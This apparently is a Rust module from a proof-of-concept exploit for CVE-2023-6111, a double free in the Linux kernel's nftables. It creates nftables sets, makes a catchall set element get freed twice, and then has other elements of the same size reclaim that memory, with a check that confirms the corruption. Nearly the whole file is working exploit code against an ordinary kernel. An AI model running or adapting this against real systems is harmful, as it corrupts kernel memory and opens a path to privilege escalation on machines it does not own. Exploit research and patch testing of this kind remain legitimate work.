//! CVE-2023-6111: the element of a set that stands for all others is freed when its time is over,
//! and stays on the set's list. The next change of the set frees it again.

use std::{collections::BTreeSet, io, thread, time::Duration};

use crate::{attribute::Attributes, netlink::Batch, nft};

const TABLE: &str = "otf_catchall";
/// The set whose element is freed twice.
const RANGES: &str = "ranges";
/// A set for elements of the same size in memory.
const OTHER: &str = "other";
/// Says that an element ends a range.
const RANGE_END: u32 = 1;
/// Says that an element stands for all others.
const CATCHALL: u32 = 2;
/// User data that brings elements of both sets to between 128 and 192 bytes.
const NOTE: usize = 120;
/// Elements that get the freed memory: the first and the third the same. One more, and the kernel
/// takes what the first has in it for a pointer to free memory.
const HEIRS: u8 = 3;

/// Two sets, one with ranges whose elements end.
pub fn setup() -> io::Result<()> {
    let create = libc::NFT_MSG_NEWSET;
    let ranges = nft::set(TABLE, RANGES, nft::SET_INTERVAL | nft::SET_TIMEOUT, 4, 1).number(12, 1);
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .add(create, nft::IP, nft::CREATE, &ranges)
        .add(
            create,
            nft::IP,
            nft::CREATE,
            &nft::set(TABLE, OTHER, 0, 16, 2),
        )
        .send()
}

/// The element is freed, another one of its size, and the element once more: nobody notices, as it
/// is not the last that was freed. Then two new elements get the same memory.
pub fn attack() -> io::Result<()> {
    let add = libc::NFT_MSG_NEWSETELEM;
    change(add, OTHER, &[heir(0xff)])?;
    let short = 20_u64.to_be_bytes();
    let catchall = Attributes::new()
        .number(3, CATCHALL)
        .bytes(4, &short)
        .bytes(6, &[0; NOTE]);
    change(add, RANGES, &[catchall])?;
    wait();
    range(add)?;
    wait();
    change(libc::NFT_MSG_DELSETELEM, OTHER, &[heir(0xff)])?;
    wait();
    range(libc::NFT_MSG_DELSETELEM)?;
    wait();
    (0..HEIRS).try_for_each(|n| change(add, OTHER, &[heir(n)]))
}

/// Says how many elements of the set are there twice: they are other ones that lost their memory.
pub fn harm() -> io::Result<()> {
    let held = nft::held(TABLE, OTHER)?;
    let distinct: BTreeSet<_> = held.iter().collect();
    match held.len() - distinct.len() {
        0 => Err(io::Error::other("no two elements are the same")),
        shared => {
            println!(
                "{shared} of {} elements lost their memory to another",
                held.len()
            );
            Ok(())
        }
    }
}

/// Memory is freed when no CPU can use it any more, and later in the background.
fn wait() {
    thread::sleep(Duration::from_millis(400));
}

fn heir(n: u8) -> Attributes {
    nft::element(&[n; 16]).bytes(6, &[n; NOTE])
}

/// Adds a range, or deletes it again.
fn range(kind: i32) -> io::Result<()> {
    let start = nft::element(&[0, 0, 0, 1]);
    let end = nft::element(&[0, 0, 0, 2]).number(3, RANGE_END);
    change(kind, RANGES, &[start, end])
}

fn change(kind: i32, set: &str, elements: &[Attributes]) -> io::Result<()> {
    let elements = nft::elements(TABLE, set, elements);
    Batch::new()
        .add(kind, nft::IP, nft::CREATE, &elements)
        .send()
}
